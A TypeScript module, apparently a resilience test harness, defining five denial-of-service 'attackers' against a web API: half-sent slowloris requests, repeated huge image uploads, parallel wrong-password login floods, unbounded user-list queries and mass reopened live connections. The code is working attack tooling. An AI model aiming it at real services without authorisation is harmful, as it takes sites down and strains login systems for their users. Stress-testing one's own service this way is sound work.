import { connect } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import sharp from 'sharp'

/** Whom somebody attacks, and as whom. */
export interface Target {
  url: string
  cookie: string
  personId: string
}

/** Does its worst until the signal says that it is enough. */
export type Attacker = (target: Target, enough: AbortSignal) => Promise<unknown>

const many = (count: number, work: () => Promise<unknown>) =>
  Promise.all(Array.from({ length: count }, work)) as Promise<unknown>

/** Again and again, whatever is answered. */
const again = (enough: AbortSignal, ask: () => Promise<Response>) => async () => {
  while (!enough.aborted) {
    const reply = await ask().catch(() => undefined)
    await reply?.arrayBuffer().catch(() => {})
    if (reply?.status === 429) await pause(20)
  }
}

const halfSent: Attacker = ({ url, cookie, personId }, enough) => {
  const { hostname, port, host } = new URL(url)
  const open = async () => {
    while (!enough.aborted)
      await new Promise<void>((resolve) => {
        const socket = connect(Number(port), hostname)
        const end = () => socket.destroy()
        enough.addEventListener('abort', end)
        socket
          .on('error', () => {})
          .on('close', () => {
            enough.removeEventListener('abort', end)
            setTimeout(resolve, 20)
          })
        socket.write(
          `PATCH /api/v1/users/${personId} HTTP/1.1\r\nhost: ${host}\r\ncookie: ${cookie}\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n{`,
        )
        socket.resume()
      })
  }
  return many(300, open)
}

const pictures: Attacker = async ({ url, cookie }, enough) => {
  const create = { width: 4900, height: 4900, channels: 3, background: '#8a4b2a' } as const
  const bytes = new Uint8Array(await sharp({ create }).png().toBuffer())
  const upload = () => {
    const body = new FormData()
    body.append('file', new Blob([bytes]), 'bomb.png')
    return fetch(`${url}/api/v1/files`, { method: 'POST', headers: { cookie }, body, signal: enough })
  }
  return many(8, again(enough, upload))
}

const passwords: Attacker = ({ url }, enough) => {
  let count = 0
  const guess = () =>
    fetch(`${url}/api/v1/sessions`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ email: `nobody${count++}@crowd.example`, password: 'a wrong guess' }),
      signal: enough,
    })
  return many(32, again(enough, guess))
}

const lists: Attacker = ({ url, cookie }, enough) =>
  many(
    8,
    again(enough, () => fetch(`${url}/api/v1/users?limit=-1`, { headers: { cookie }, signal: enough })),
  )

const live: Attacker = ({ url, cookie }, enough) =>
  many(200, async () => {
    while (!enough.aborted) {
      const reply = await fetch(`${url}/api/v1/live`, { headers: { cookie }, signal: enough }).catch(() => {})
      await reply?.text().catch(() => {})
    }
  })

export const attackers: Record<string, Attacker> = {
  '300 half-sent bodies': halfSent,
  '8 large pictures at once': pictures,
  '32 guesses at passwords at once': passwords,
  '8 whole lists of 20,000 people at once': lists,
  '200 live connections, opened again and again': live,
}
